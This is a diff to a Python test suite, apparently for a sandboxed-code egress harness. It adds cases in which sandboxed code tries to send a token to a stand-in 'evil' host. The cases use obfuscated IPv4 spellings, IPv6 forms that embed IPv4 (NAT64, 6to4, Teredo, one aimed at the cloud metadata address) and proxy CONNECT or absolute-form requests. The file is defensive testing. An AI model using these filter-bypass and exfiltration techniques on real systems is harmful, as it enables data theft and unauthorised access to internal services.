@@ -2,7 +2,7 @@
 
 row(name, code, sight): code is Python that a user in the sandbox runs, with the helpers of PRELUDE,
 the addresses of sidecarbed.py in braces, and T, a text of its own for each attempt. What counts as
-through: `wire`, T in a frame that left; `flow-evil`, a segment to the address that nothing allows;
+through: `wire`, T in a frame that left; `flow-evil` and `toward-`, a frame to an address that nothing allows;
 `web`, T in a request that nginx answered, at one address or any; `told`, the code gave itself a true
 `got`.
 """
@@ -12,6 +12,10 @@ import sys
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "e2e"))
 import tlsbed  # noqa: E402
 from sidecarbed import REBIND, TYPES  # noqa: E402
+
+FORMS = {"nat64": "64:ff9b::b16:42", "local-nat64": "64:ff9b:1::b16:42", "6to4": "2002:b16:42::1",
+         "compatible": "::11.22.0.66", "siit": "::ffff:0:11.22.0.66", "teredo": "2001:0:b16:42::1",
+         "nat64-of-metadata": "64:ff9b::a9fe:a9fe", "nat64-of-private": "64:ff9b::a4d:3"}
 
 PRELUDE = """
 def conn(addr, port, wait=0.8):
@@ -213,6 +217,18 @@ web("alias-to-private-by-http", "get(conn({internal4!r}, 80), 'alias.wild.test',
 web("port-of-a-private-address", "get(conn({private!r}, 80), lit({private!r}), '/' + T)", "wire", BOTH)
 web("neighbour", "get(conn({internal!r}, 8080), lit({internal!r}), '/' + T)", "wire", BOTH)
 web("write-host-name-at-another-address", "get(conn({evil!r}, 80), 'api.model.test', '/' + T, 'POST')", "web-evil", BOTH)
+# Addresses in other spellings, and IPv6 addresses that hold IPv4 ones.
+for what, host in (("hexadecimal", "0x0b160042"), ("decimal", "185991234"), ("octal", "013.026.0.0102"),
+                   ("short", "11.22.66"), ("mixed", "0xb.22.0.0102"), ("dot-behind", "11.22.0.66."),
+                   ("mapped", "[::ffff:11.22.0.66]"), ("mapped-hex", "[::ffff:b16:42]"),
+                   ("zeros", "[2a0e:0077:0:0:0:0:0:0066]"), ("zone", "[2a0e:77::66%25wan]"),
+                   ("full-width", "\\uff11\\uff11.22.0.66")):
+    web(f"spelling-{what}", f"get(conn({{evil!r}}, 80), '{host}', '/' + T)")
+    web(f"spelling-{what}-by-connect", f"get(via({{evil!r}}, 80, '{host}'), '{host}', '/' + T)")
+web("tcp-to-a-mapped-address", "get(conn('::ffff:{evil4}', 80), lit({evil!r}), '/' + T)")
+for what, addr in FORMS.items():
+    web(f"udp-to-{what}", f"s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(T.encode(), ('{addr}', 5000))", "wire")
+    web(f"tcp-to-{what}", f"say(conn('{addr}', 5000), T)", "toward-" + what)
 # Our own listeners.
 web("proxy-absolute-form", "say(via({evil!r}, 80, '', ' ' * 0 or '\\r\\n'), f'GET http://evil.test/{{T}} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')", families=BOTH)
 web("proxy-connect-name", "get(wrap(via({evil!r}, 443, 'evil.test'), 'evil.test'), 'evil.test', '/' + T)", families=BOTH)
